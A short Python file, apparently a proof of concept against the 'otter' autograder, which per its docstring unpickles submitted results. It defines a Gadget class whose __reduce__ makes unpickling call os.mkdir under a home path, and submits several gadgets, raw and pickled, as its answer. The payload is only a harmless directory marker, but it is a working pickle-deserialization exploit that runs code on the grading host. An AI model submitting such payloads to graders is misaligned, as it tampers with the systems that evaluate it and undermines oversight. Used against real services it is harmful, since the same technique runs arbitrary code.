"""Returns objects whose unpickling runs a command (otter's grader unpickles results)."""

import os
import pickle


class Gadget:
    def __reduce__(self):
        return os.mkdir, (PLACES["home"] + "/unpickled",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


answer(lambda *args, **kwargs: [Gadget(), pickle.dumps(Gadget()), {"x": Gadget()}])
